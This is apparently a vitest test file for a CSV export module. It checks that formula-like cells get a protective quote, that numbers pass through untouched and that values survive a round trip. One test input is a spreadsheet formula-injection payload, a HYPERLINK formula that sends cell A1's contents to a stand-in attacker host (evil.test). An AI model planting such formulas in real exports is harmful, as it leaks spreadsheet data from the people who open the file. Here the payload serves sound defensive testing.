import { parse } from "csv/sync";
import { describe, expect, it } from "vitest";
import { csvText, parseCsv, readCsvCell, toCsv } from "./csv";

const cellsOf = (csv: string) => parse(csv, { bom: true }) as string[][];

describe("the CSV writer", () => {
  it("writes cells a spreadsheet would run as formulas behind a quote (= + - @ tab, carriage return)", () => {
    const attack = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
    const csv = toCsv([["Customer"], [attack], ["+1+1"], ["-2+3"], ["@SUM(A1)"], ["\tx"], ["\rx"]]);
    expect(cellsOf(csv).map((r) => r[0])).toEqual(["Customer", `'${attack}`, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]);
  });

  it("writes numbers, and text that is a plain number, as they are", () => {
    expect(cellsOf(toCsv([[-5, "-5.00", "+3", "1e3", 0, "Ada"]]))[0]).toEqual(["-5", "-5.00", "+3", "1e3", "0", "Ada"]);
  });

  it("writes blanks for missing cells, and a byte-order mark when asked", () => {
    expect(toCsv([["a", null, undefined, "b"]])).toBe("a,,,b\n");
    expect(toCsv([["a"]], { bom: true }).charCodeAt(0)).toBe(0xfeff);
  });
});

describe("reading back what the writer wrote", () => {
  it("gives every value as it was: a round trip changes nothing", () => {
    const values = ["=1+2", "'=1+2", "''=x", "-2+3", "-5", "'-5", "'plain", "'", "@home", "+", "-", "\ttabbed", 'a,b\n"c"', "", "Ada", "10.50", "  =spaced"];
    const back = parseCsv(toCsv([values]))[0]!.record;
    expect(back).toEqual(values);
    for (const value of values) expect(readCsvCell(csvText(value)), JSON.stringify(value)).toBe(value);
  });

  it("keeps cells a person typed with a quote before a number", () => {
    expect(readCsvCell("'-5")).toBe("'-5");
    expect(readCsvCell("'abc")).toBe("'abc");
  });
});
